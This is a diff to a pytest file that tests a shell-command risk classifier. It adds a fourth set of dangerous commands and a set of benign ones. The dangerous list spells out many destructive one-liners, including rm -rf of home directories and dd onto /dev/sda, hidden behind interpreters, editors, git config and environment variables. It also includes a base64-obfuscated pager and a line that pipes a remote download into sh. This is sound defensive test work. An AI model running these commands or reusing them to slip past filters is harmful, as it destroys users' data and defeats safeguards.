@@ -650,13 +650,145 @@ THIRD_PASS_BENIGN = [
 ]
 
 
+# Fourth pass: more calls that run programs, more shells and runners, editors' and tools'
+# variables, git settings given through the environment, batch files of file-transfer clients,
+# ripgrep's preprocessor, and find running what it finds. Written before any rule change for it.
+FOURTH_PASS_DANGEROUS = [
+    ('perl -e \'exec {"/bin/sh"} "sh", "-c", "rm -rf ~"\'', HIGH),
+    (
+        "python3 -c \"import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/home/alice')\"",
+        CRITICAL,
+    ),
+    ("python3 -c \"import os; os.posix_spawnp('rm', ['rm','-rf','/home/alice'], {})\"", CRITICAL),
+    ("python3 -c \"import pty; pty.spawn(['rm','-rf','/home/alice'])\"", CRITICAL),
+    ("python3 -c \"import subprocess as s; s.Popen('rm -rf ~', shell=True)\"", CRITICAL),
+    (
+        'python3 -c "from subprocess import check_output as c; '
+        "c(['dd','if=/dev/zero','of=/dev/sda'])\"",
+        CRITICAL,
+    ),
+    (
+        "python3 -c \"import asyncio; asyncio.run(asyncio.create_subprocess_shell('rm -rf ~'))\"",
+        CRITICAL,
+    ),
+    ("node -e \"require('child_process').execFileSync('/bin/sh', ['-c', 'rm -rf ~'])\"", CRITICAL),
+    ("node --eval=\"require('fs').rmSync('/etc', {recursive:true})\"", CRITICAL),
+    ("node -pe \"require('child_process').execSync('rm -rf ~').toString()\"", CRITICAL),
+    (
+        "node --input-type=module -e "
+        "\"import {execSync} from 'child_process'; execSync('rm -rf ~')\"",
+        CRITICAL,
+    ),
+    ("ruby -ropen3 -e 'Open3.capture2(\"rm -rf ~\")'", CRITICAL),
+    ("ruby -e 'Process.spawn(\"rm -rf ~\")'", CRITICAL),
+    ('php -r \'pcntl_exec("/bin/rm", ["-rf", "/home/alice"]);\'', CRITICAL),
+    ('php -r \'popen("rm -rf ~", "r");\'', CRITICAL),
+    ("lua -e 'os.execute \"rm -rf ~\"'", CRITICAL),
+    ("lua5.1 -e 'io.popen\"rm -rf ~\"'", CRITICAL),
+    ("echo 'file delete -force ~' | tclsh", CRITICAL),
+    ('Rscript -e \'system2("dd", c("if=/dev/zero", "of=/dev/sda"))\'', CRITICAL),
+    ("Rscript -e 'unlink(\"/home/alice\", recursive = TRUE, force = TRUE)'", CRITICAL),
+    ("julia -e 'run(`dd if=/dev/zero of=/dev/sda`)'", CRITICAL),
+    ("deno eval \"new Deno.Command('rm', {args: ['-rf', '/home/alice']}).outputSync()\"", CRITICAL),
+    ("bun -e \"Bun.spawnSync(['rm','-rf','/home/alice'])\"", CRITICAL),
+    ('mongosh --eval \'require("child_process").execSync("rm -rf ~")\'', CRITICAL),
+    ("tcsh -c 'rm -rf ~'", CRITICAL),
+    ("csh -c 'rm -rf /'", CRITICAL),
+    ("nu -c 'rm -rf ~'", CRITICAL),
+    ("xonsh -c 'rm -rf ~'", CRITICAL),
+    ("busybox hush -c 'rm -rf ~'", CRITICAL),
+    ("setarch x86_64 rm -rf ~", CRITICAL),
+    ("capsh -- -c 'rm -rf ~'", CRITICAL),
+    ("machinectl shell .host /bin/sh -c 'rm -rf ~'", CRITICAL),
+    ("git -c core.pager='less; rm -rf ~' log", CRITICAL),
+    ('git -c core.pager="$(echo cm0gLXJmIH4= | base64 -d)" log', HIGH),
+    ("git -c submodule.lib.update='!rm -rf ~' submodule update", CRITICAL),
+    ("git config -f .gitmodules submodule.lib.update '!curl -s http://203.0.113.9/x | sh'", HIGH),
+    (
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~' git log",
+        CRITICAL,
+    ),
+    ("GIT_CONFIG_PARAMETERS=\"'core.pager'='rm -rf ~'\" git log", CRITICAL),
+    ("GIT_SEQUENCE_EDITOR='rm -rf ~' git rebase -i HEAD~2", CRITICAL),
+    ("SYSTEMD_EDITOR='rm -rf ~' systemctl edit nginx", CRITICAL),
+    ("KUBE_EDITOR='rm -rf ~' kubectl edit deploy web", CRITICAL),
+    ("SVN_EDITOR='rm -rf ~' svn commit", CRITICAL),
+    ("NODE_OPTIONS='--require /tmp/evil.js' node app.js", HIGH),
+    ("RUBYOPT='-r/tmp/x.rb' ruby app.rb", HIGH),
+    ("BASH_ENV=/tmp/x bash deploy.sh", HIGH),
+    ("find / -name '*.sh' -exec {} \\;", HIGH),
+    ("find /tmp -name 'x*' -exec {} \\;", HIGH),
+    ("fd . ~ -X rm -rf", CRITICAL),
+    ("rg --pre rm x ~", CRITICAL),
+    ("rg --pre=/tmp/x.sh password", HIGH),
+    ("rsync -e 'ssh -o ProxyCommand=\"rm -rf ~\"' a host:b", CRITICAL),
+    ("echo '!rm -rf ~' | sftp -b - host", CRITICAL),
+    ("sftp -b <(echo '!rm -rf ~') host", CRITICAL),
+    ("echo '!rm -rf ~' | ftp host", CRITICAL),
+    ("lftp -c '!rm -rf ~'", CRITICAL),
+    ("smbclient -c '!rm -rf ~' //nas/share", CRITICAL),
+    ("mysql -e '\\! rm -rf ~'", CRITICAL),
+    ("psql -f <(echo '\\! rm -rf ~')", CRITICAL),
+    ("gnuplot -e '! rm -rf ~'", CRITICAL),
+    ("vim -c 'exe \"!rm -rf ~\"'", CRITICAL),
+    ("nvim -c 'call jobstart(\"rm -rf ~\")'", CRITICAL),
+    ("vim -c 'py3 import shutil; shutil.rmtree(\"/home/alice\")'", CRITICAL),
+    ('emacs --batch --eval \'(start-process "x" nil "rm" "-rf" "/home/alice")\'', CRITICAL),
+    ("emacs -batch -eval '(shell-command-to-string \"rm -rf ~\")'", CRITICAL),
+    ("printf '!rm -rf ~\\nq\\n' | ed -s", CRITICAL),
+    ("awk 'BEGIN{while((\"rm -rf ~\" | getline) > 0);}'", CRITICAL),
+    ("echo '1e rm -rf ~' | sed -f - notes.txt", CRITICAL),
+    ("sed -f <(echo '1e rm -rf ~') notes.txt", CRITICAL),
+]
+
+FOURTH_PASS_BENIGN = [
+    ("python3 -c \"import subprocess; subprocess.run(['ls','-la'])\"", MODERATE),
+    ("python3 -c \"import os; os.spawnlp(os.P_WAIT, 'ls', 'ls')\"", MODERATE),
+    ('node --eval="console.log(1)"', SAFE),
+    ('node -pe "1+1"', SAFE),
+    ("ruby -e 'Process.spawn(\"sleep 1\")'", MODERATE),
+    ("lua -e 'os.execute \"date\"'", MODERATE),
+    ("Rscript -e 'unlink(\"tmp\", recursive = TRUE)'", MODERATE),
+    ("julia -e 'rm(\"tmp.txt\", force=true)'", MODERATE),
+    ('bun -e "console.log(Bun.version)"', SAFE),
+    ("tcsh -c 'echo hi'", MODERATE),
+    ("nu -c 'ls'", MODERATE),
+    ("setarch x86_64 uname -m", MODERATE),
+    ("capsh --print", MODERATE),
+    ("git config --get-regexp alias", SAFE),
+    ("git -c submodule.recurse=true pull", MODERATE),
+    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=color.ui GIT_CONFIG_VALUE_0=always git log", MODERATE),
+    ("GIT_SEQUENCE_EDITOR=true git rebase -i --autosquash HEAD~3", MODERATE),
+    ("SYSTEMD_EDITOR=vim systemctl edit nginx", HIGH),
+    ("KUBE_EDITOR=nano kubectl edit deploy web", HIGH),
+    ("NODE_OPTIONS='--max-old-space-size=4096' npm run build", MODERATE),
+    ("RUBYOPT='-W0' ruby app.rb", MODERATE),
+    ("find . -name '*.sh' -exec shellcheck {} +", SAFE),
+    ("fd -e py -x black --check", MODERATE),
+    ("rg --pre pdftotext invoice", MODERATE),
+    ("rg --pre-glob '*.pdf' --pre pdftotext total", MODERATE),
+    ("echo 'get report.pdf' | sftp -b - host", MODERATE),
+    ("lftp -c 'open host; ls'", MODERATE),
+    ("smbclient -c 'ls' //nas/share", MODERATE),
+    ("mongosh --eval 'db.stats()'", MODERATE),
+    ("gnuplot -e 'set term dumb; plot sin(x)'", MODERATE),
+    ("vim -c 'exe \"normal gg=G\"' -c wq main.c", MODERATE),
+    ("emacs -Q --batch -l ./build.el", MODERATE),
+    ("printf 'p\\nq\\n' | ed -s notes.txt", MODERATE),
+    ("echo 's/a/b/' | sed -f - notes.txt", SAFE),
+]
+
+
 @pytest.mark.parametrize(
-    ("command", "least"), DANGEROUS + SECOND_PASS_DANGEROUS + THIRD_PASS_DANGEROUS
+    ("command", "least"),
+    DANGEROUS + SECOND_PASS_DANGEROUS + THIRD_PASS_DANGEROUS + FOURTH_PASS_DANGEROUS,
 )
 def test_dangerous(command: str, least: RiskLevel) -> None:
     reaches(command, least)
 
 
-@pytest.mark.parametrize(("command", "highest"), BENIGN + SECOND_PASS_BENIGN + THIRD_PASS_BENIGN)
+@pytest.mark.parametrize(
+    ("command", "highest"), BENIGN + SECOND_PASS_BENIGN + THIRD_PASS_BENIGN + FOURTH_PASS_BENIGN
+)
 def test_benign(command: str, highest: RiskLevel) -> None:
     stays_within(command, highest)
